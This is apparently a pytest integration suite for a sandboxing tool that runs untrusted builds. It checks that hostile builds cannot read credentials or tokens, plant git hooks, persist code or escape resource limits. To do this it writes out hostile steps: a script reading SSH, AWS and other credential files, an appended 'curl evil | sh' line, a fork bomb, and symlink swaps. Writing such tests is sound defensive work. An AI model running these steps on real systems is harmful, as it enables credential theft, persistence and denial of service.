"""Untrusted builds: the build profile, the work tree (rw, overlay, ro), [hide], limits, --timeout
and --report. Each test is what a hostile build tries, run as the user from a checkout under
HOME, and what it must not reach or leave behind."""

from __future__ import annotations

import json
import os
import signal
import socket
import subprocess
import time
from pathlib import Path

import pytest

from .conftest import BIN, caller_env, sbx

pytestmark = pytest.mark.usefixtures("integration")
SECRETS = (".ssh/id_ed25519", ".gnupg/private-keys-v1.d/k.key", ".aws/credentials", ".config/gh/hosts.yml",
           ".netrc", ".docker/config.json", ".kube/config", ".local/share/keyrings/login.keyring")
TOKENS = {"GITHUB_TOKEN": "ghp_canary", "NPM_TOKEN": "npm_canary", "AWS_SECRET_ACCESS_KEY": "aws_canary",
          "AWS_ACCESS_KEY_ID": "AKIACANARY"}


@pytest.fixture
def project(home: Path) -> Path:
    """A checkout under HOME, the way people have them, with git's hooks and config, an .envrc,
    and canary secrets in HOME."""
    proj = home / "src" / "project"
    (proj / ".git" / "hooks").mkdir(parents=True)
    (proj / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (proj / ".envrc").write_text("export X=1\n")
    (proj / "src").mkdir()
    (proj / "src" / "main.c").write_text("int main(void) { return 0; }\n")
    (proj / "README").write_text("readme\n")
    for rel in SECRETS:
        path = home / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"canary {rel}\n")
    return proj


def build(project: Path, home: Path, *args: str, env: dict[str, str] | None = None,
          timeout: float = 60) -> subprocess.CompletedProcess[str]:
    return sbx(["build", *args], home, cwd=project, env=env or caller_env(home, **TOKENS), timeout=timeout)


def tree_state(path: Path) -> dict[str, bytes | str]:
    """Every entry under path: a file's bytes, a link's target, a directory's mode."""
    out: dict[str, bytes | str] = {}
    for root, dirs, files in os.walk(path):
        for name in dirs + files:
            p = Path(root) / name
            rel = str(p.relative_to(path))
            if p.is_symlink():
                out[rel] = "-> " + os.readlink(p)
            elif p.is_dir():
                out[rel] = f"dir {p.stat().st_mode:o}"
            else:
                out[rel] = p.read_bytes()
    return out


# ---- secrets -------------------------------------------------------------------------------------

READ_ALL = r"""
import os, sys
for path in sys.argv[1:]:
    try:
        print(path, "READ", open(path).read().strip())
    except OSError as e:
        print(path, "refused", e.strerror)
for name in sys.argv[1:]:
    pass
print("env", sorted(k for k in os.environ if "TOKEN" in k or k.startswith("AWS")))
"""


@pytest.mark.parametrize("how", ["build", "with your real home", "with home bound in the tree"])
def test_secrets_and_tokens_never_reach_the_build(project: Path, home: Path, how: str) -> None:
    paths = [str(home / rel) for rel in SECRETS]
    extra = {"build": [], "with your real home": ["--home", "host"],
             "with home bound in the tree": ["--bind", f"{home}:{project}/h"]}[how]
    if how == "with home bound in the tree":
        paths = [str(project / "h" / rel) for rel in SECRETS]
    out = build(project, home, *extra, "--", "python3", "-c", READ_ALL, *paths)
    assert out.returncode == 0, out.stderr
    assert "canary" not in out.stdout, out.stdout
    assert out.stdout.splitlines()[-1] == "env []"


def test_a_socket_and_a_symlinked_secret_are_hidden(project: Path, home: Path, tmp_path: Path) -> None:
    """A socket (docker.sock's kind) and a secret reached through a symlink, with the real home
    in the sandbox."""
    server = socket.socket(socket.AF_UNIX)
    sock = home / "docker.sock"
    server.bind(str(sock))
    server.listen(1)
    real = tmp_path / "vault"
    real.mkdir()
    (real / "key").write_text("canary vault\n")
    (home / ".password-store").symlink_to(real)
    script = (f"import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect({str(sock)!r})\n"
              "    print('CONNECTED')\nexcept OSError as e:\n    print('refused', e.strerror)\n"
              f"import os\nprint(os.listdir({str(home / '.password-store')!r}), os.listdir({str(real)!r}))\n")
    out = build(project, home, "--home", "host", "--hide", str(sock), "--", "python3", "-c", script)
    server.close()
    assert out.returncode == 0, out.stderr
    assert out.stdout.splitlines() == ["refused Connection refused", "[] []"]


# ---- the work tree -------------------------------------------------------------------------------

def test_rw_writes_land_but_nothing_that_runs_later_on_the_host(project: Path, home: Path) -> None:
    profile = project / "sandbox.toml"
    profile.write_text('extends = ["build"]\n')
    script = ("echo built > out.o; echo '#!/bin/sh' > .git/hooks/pre-commit; echo 'x' >> .git/config; "
              "echo 'curl evil | sh' >> .envrc; echo '[network]' >> sandbox.toml; "
              "mkdir .git/hooks2; rm -rf .git; echo done")
    out = sbx([str(profile), "--", "sh", "-c", script], home, cwd=project, timeout=60)
    assert out.returncode == 0, out.stderr
    assert (project / "out.o").read_text() == "built\n"
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert (project / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert (project / ".envrc").read_text() == "export X=1\n"
    assert profile.read_text() == 'extends = ["build"]\n'
    assert not (project / ".git" / "hooks2").exists()


def test_ro_tree(project: Path, home: Path) -> None:
    before = tree_state(project)
    out = build(project, home, "--worktree", "ro", "--", "sh", "-c", "touch x 2>&1; cat README")
    assert out.returncode == 0 and "Read-only file system" in out.stdout and "readme" in out.stdout
    assert tree_state(project) == before


def test_overlay_leaves_the_tree_byte_identical_and_keep_holds_the_changes(
        project: Path, home: Path, tmp_path: Path) -> None:
    before = tree_state(project)
    script = ("echo changed > README && rm src/main.c && mkdir -p build/obj && echo o > build/obj/a.o && "
              "touch \"$(printf 'odd\\nname')\" && echo '#!/bin/sh' > .git/hooks/pre-commit && cat README")
    out = build(project, home, "--worktree", "overlay", "--diff", "--", "sh", "-c", script)
    assert out.returncode == 0, out.stderr
    assert out.stdout == "changed\n"
    assert tree_state(project) == before
    lines = out.stderr.splitlines()
    assert lines[0] == ("sandboxer: work tree overlay: 5 added, 1 changed, 1 deleted; discarded (--keep DIR "
                        "keeps them, --diff lists them)")
    assert sorted(lines[1:]) == sorted(["M README", "D src/main.c", "A build", "A build/obj", "A build/obj/a.o",
                                        "A odd\\nname", "A .git/hooks/pre-commit"])
    keep = tmp_path / "kept"
    report = project / "report.json"
    out = build(project, home, "--worktree", "overlay", "--keep", str(keep), "--report", str(report), "--",
                "sh", "-c", script)
    assert out.returncode == 0, out.stderr
    assert "kept in" in out.stderr
    assert (keep / "upper" / "README").read_text() == "changed\n"
    assert (keep / "upper" / "build" / "obj" / "a.o").read_text() == "o\n"
    whiteout = (keep / "upper" / "src" / "main.c").lstat()
    assert os.major(whiteout.st_rdev) == 0 and os.minor(whiteout.st_rdev) == 0
    assert sorted(os.listdir(keep)) == ["upper"]
    data = json.loads(report.read_text())
    assert data["worktree"]["changes"]["counts"] == {"added": 5, "changed": 1, "deleted": 1}
    assert "odd\nname" in data["worktree"]["changes"]["added"]
    report.unlink()
    assert tree_state(project) == before
    # a --keep DIR that is not empty is refused before anything runs
    out = build(project, home, "--worktree", "overlay", "--keep", str(keep), "--", "true")
    assert out.returncode == 125 and "exists and is not an empty directory" in out.stderr


def test_a_change_nested_too_deep_to_walk_is_said_not_hidden(project: Path, home: Path) -> None:
    """A build buries a file under more directories than the stage has fds to walk (its limit
    lowered here, as a small hard limit would): --diff says what it could not list, rather than
    leaving the file out of the review."""
    import resource

    deep = "/".join(["d"] * 100)
    before = tree_state(project)

    def few_fds() -> None:
        resource.setrlimit(resource.RLIMIT_NOFILE, (128, 128))

    out = subprocess.run([str(BIN), "run", "build", "--worktree", "overlay", "--diff", "--", "sh", "-c",
                          f"mkdir -p {deep} && echo payload > {deep}/hook"], capture_output=True, text=True,
                         timeout=60, cwd=project, env=caller_env(home), preexec_fn=few_fds)
    assert out.returncode == 0, out.stderr
    summary, *listed = out.stderr.splitlines()
    assert "too deeply nested to walk (unlisted: they may hold more changes)" in summary
    assert [line for line in listed if line.startswith("? d/d/")], listed
    assert tree_state(project) == before


def test_keep_needs_an_overlay(project: Path, home: Path, tmp_path: Path) -> None:
    out = build(project, home, "--keep", str(tmp_path / "k"), "--", "true")
    assert out.returncode == 125 and out.stderr == ("sandboxer: error: --keep needs a work tree overlay "
                                                    "(add --worktree overlay)\n")


def test_the_work_tree_cannot_be_home(home: Path) -> None:
    out = sbx(["build", "--", "true"], home, cwd=home)
    assert out.returncode == 125
    assert f"worktree.path: the work tree {home} holds {home}" in out.stderr


# ---- the report ----------------------------------------------------------------------------------

def test_the_report_follows_no_symlink_the_build_planted(project: Path, home: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    (project / "out").mkdir()
    for name in ("report.json", "out/r.json"):
        out = build(project, home, "--report", name, "--", "ln", "-s", str(victim), name)
        assert out.returncode == 0, out.stderr
        assert victim.read_text() == "precious\n"
        assert json.loads((project / name).read_text())["exit"]["code"] == 0
        assert not (project / name).is_symlink()
        for leftover in project.rglob(".*.tmp"):
            raise AssertionError(f"left behind: {leftover}")
        (project / name).unlink()


def test_a_swapped_report_directory_is_not_followed(project: Path, home: Path, tmp_path: Path) -> None:
    """The build replaces the report's directory by a symlink to another one."""
    (project / "out").mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    script = f"mv out out.old && ln -s {elsewhere} out"
    out = build(project, home, "--report", "out/report.json", "--", "sh", "-c", script)
    assert out.returncode == 0, out.stderr
    assert list(elsewhere.iterdir()) == []
    assert json.loads((project / "out.old" / "report.json").read_text())["exit"]["cause"] == "exit"


# ---- limits and the timeout ----------------------------------------------------------------------

def own_processes() -> set[int]:
    me = os.getuid()
    found = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if os.stat(f"/proc/{entry}").st_uid == me:
                    found.add(int(entry))
            except OSError:
                pass
    return found


def test_a_fork_bomb_stays_inside(project: Path, home: Path) -> None:
    before = own_processes()
    bomb = "bomb() { bomb | bomb & }; bomb; sleep 3; echo survived"
    proc = subprocess.Popen([str(BIN), "run", "build", "--nproc", "100", "--", "bash", "-c", bomb],
                            cwd=project, env=caller_env(home), stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            text=True)
    time.sleep(1.5)
    # within a second the bomb is at its limit, and the user can still start processes outside
    started = [subprocess.run(["true"], timeout=10).returncode for _ in range(20)]
    assert started == [0] * 20
    inside = len(own_processes() - before)
    out, err = proc.communicate(timeout=60)
    assert proc.returncode == 0 and out == "survived\n", err
    assert inside <= 100 + 5  # the bomb's, plus the supervisor, unshare, the stage and us
    deadline = time.monotonic() + 10
    while own_processes() - before - {os.getpid()} and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not {p for p in own_processes() - before if os.path.exists(f"/proc/{p}")}, "processes left behind"


def test_filling_the_tmpfs_gets_enospc_not_the_host(project: Path, home: Path) -> None:
    out = build(project, home, "--home-size", "2M", "--tmp-size", "2M", "--", "sh", "-c",
                "head -c 5M /dev/zero > $HOME/big; echo home=$?; head -c 5M /dev/zero > /tmp/big; echo tmp=$?")
    assert out.returncode == 0
    assert out.stdout == "home=1\ntmp=1\n" and out.stderr.count("No space left on device") == 2


@pytest.mark.parametrize("limit,script,code,cause", [
    (["--fsize", "1M"], "exec head -c 2M /dev/zero > big", 128 + signal.SIGXFSZ, "fsize"),
    (["--cpu", "1"], "exec python3 -c 'while True: pass'", 128 + signal.SIGXCPU, "cpu"),
])
def test_limits_end_with_their_signal(project: Path, home: Path, limit: list[str], script: str, code: int,
                                      cause: str) -> None:
    out = build(project, home, *limit, "--report", "r.json", "--", "sh", "-c", script)
    assert out.returncode == code, out.stderr
    ending = json.loads((project / "r.json").read_text())["exit"]
    assert (ending["cause"], ending["limit"], ending["signal"]) == ("limit", cause, signal.Signals(code - 128).name)
    (project / "big").unlink(missing_ok=True)


def test_nofile_and_as(project: Path, home: Path) -> None:
    out = build(project, home, "--nofile", "20", "--as", "200M", "--", "sh", "-c", "ulimit -n; ulimit -v")
    assert out.returncode == 0 and out.stdout.split() == ["20", str(200 * 1024)], out.stderr


@pytest.mark.parametrize("trap", ["", "trap '' TERM; "])
def test_timeout(project: Path, home: Path, trap: str) -> None:
    before = own_processes()
    start = time.monotonic()
    out = build(project, home, "--timeout", "1s", "--kill-after", "1s", "--report", "r.json", "--",
                "sh", "-c", trap + "sleep 30 & sleep 30")
    took = time.monotonic() - start
    assert out.returncode == 124, out.stderr
    assert "ran for 1 s (--timeout): sending it SIGTERM, SIGKILL in 1 s" in out.stderr
    assert took < (3.5 if trap else 2.5)
    ending = json.loads((project / "r.json").read_text())["exit"]
    assert (ending["code"], ending["cause"], ending["timeout"]) == (124, "timeout", True)
    time.sleep(0.2)
    assert not {p for p in own_processes() - before if os.path.exists(f"/proc/{p}")}


def test_output_streams_through_without_the_supervisor_holding_it(project: Path, home: Path) -> None:
    """1 GiB through stdout: the supervisor's memory stays what it is for `true`."""
    proc = subprocess.Popen([str(BIN), "run", "build", "--", "head", "-c", "1G", "/dev/zero"], cwd=project,
                            env=caller_env(home), stdout=subprocess.PIPE, stderr=subprocess.DEVNULL)
    assert proc.stdout is not None
    total, peak = 0, 0
    while chunk := proc.stdout.read(1 << 20):
        total += len(chunk)
        try:
            with open(f"/proc/{proc.pid}/status") as f:
                peak = max(peak, *(int(line.split()[1]) for line in f if line.startswith("VmHWM:")))
        except (OSError, ValueError):
            pass
    assert proc.wait(timeout=60) == 0
    assert total == 1 << 30
    assert 0 < peak < 40 * 1024  # kB: an interpreter's, not a gigabyte's
